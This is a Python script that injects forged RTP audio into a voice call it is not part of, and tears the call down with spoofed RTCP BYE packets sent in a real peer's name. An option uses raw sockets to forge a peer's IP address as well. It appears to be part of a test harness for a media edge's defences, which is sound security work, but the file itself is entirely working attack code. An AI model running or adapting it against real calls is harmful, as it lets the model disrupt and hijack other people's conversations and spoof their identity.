#!/usr/bin/env python3
"""Somebody who wants to be heard in a call that is not theirs, or to end it: RTP with guessed
sequence numbers under the SSRC of each true peer and under others, three in a row as a latch
might want them, and RTCP that says BYE in the true peer's name. It speaks 1500 Hz. With
--as it forges the address of a true peer as well; the true SSRC it then leaves to RTCP,
because RTP with both right is the peer's own as far as anybody can tell without SRTP.

  stranger.py EDGE_IP PORTS SSRCS SECONDS LOG [--as IP:PORT]

PORTS and SSRCS are lists with commas. It writes when it began, when it ended, and its counts."""

import argparse
import json
import random
import socket
import struct
import time

import ears

FRAME = 160
SR, BYE = 200, 203


class Plain:
    """Datagrams of its own."""

    def __init__(self):
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)

    def send(self, data, to):
        try:
            self.udp.sendto(data, to)
        except OSError:
            pass  # A closed port answers with ICMP.


class Forged:
    """Datagrams with somebody else's address on them."""

    def __init__(self, ip, port):
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.source, self.port = socket.inet_aton(ip), port

    def send(self, data, to):
        length = 8 + len(data)
        # Identification, checksum and total length of IP are the kernel's; no UDP checksum is allowed.
        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, 0, 0, 64, 17, 0, self.source, socket.inet_aton(to[0]))
        self.raw.sendto(head + struct.pack("!HHHH", self.port, to[1], length, 0) + data, (to[0], 0))


def goodbye(ssrc):
    """A sender's report and a BYE, as RFC 3550 wants them together."""
    report = struct.pack("!BBHIIIIII", 0x80, SR, 6, ssrc, 0, 0, 0, 0, 0)
    return report + struct.pack("!BBHI", 0x81, BYE, 1, ssrc)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("edge")
    parser.add_argument("ports", type=lambda text: [int(part) for part in text.split(",")])
    parser.add_argument("ssrcs", type=lambda text: [int(part) for part in text.split(",")])
    parser.add_argument("seconds", type=float)
    parser.add_argument("log")
    parser.add_argument("--as", dest="true", type=lambda text: (text.rpartition(":")[0], int(text.rpartition(":")[2])))
    options = parser.parse_args()
    out = Forged(*options.true) if options.true else Plain()
    chance = random.Random(1)
    tone = [ears.encode(x) for x in ears.sine(1500, FRAME)]
    flipped = [chance.randrange(1 << 32) for _ in range(3)]
    own, counts = chance.randrange(1 << 16), {"rtp": 0, "bye": 0}
    began, step, due = time.time(), 0, time.monotonic()
    while time.time() < began + options.seconds:
        for port in options.ports:
            claimed = flipped[:2] if options.true else options.ssrcs + flipped[:1]
            rtp = [(ssrc, own + step if ssrc in flipped else chance.randrange(1 << 16)) for ssrc in claimed]
            # One that is new every time, as of a sender that starts again and again.
            rtp.append((chance.randrange(1 << 32), chance.randrange(1 << 16)))
            for ssrc, sequence in rtp:
                head = struct.pack("!BBHII", 0x80, 0, sequence & 0xFFFF, sequence * FRAME & 0xFFFFFFFF, ssrc)
                out.send(head + bytes(tone), (options.edge, port))
                counts["rtp"] += 1
            if step % 10 == 0:
                for ssrc in options.ssrcs + flipped:
                    # Beside the media, and among it (RFC 5761).
                    for to in (port + 1, port):
                        out.send(goodbye(ssrc), (options.edge, to))
                        counts["bye"] += 1
        step += 1
        due += 0.02
        time.sleep(max(due - time.monotonic(), 0))
    with open(options.log, "w", encoding="utf-8") as file:
        json.dump({"began_ms": round(began * 1000), "ended_ms": round(time.time() * 1000), **counts}, file)


if __name__ == "__main__":
    main()
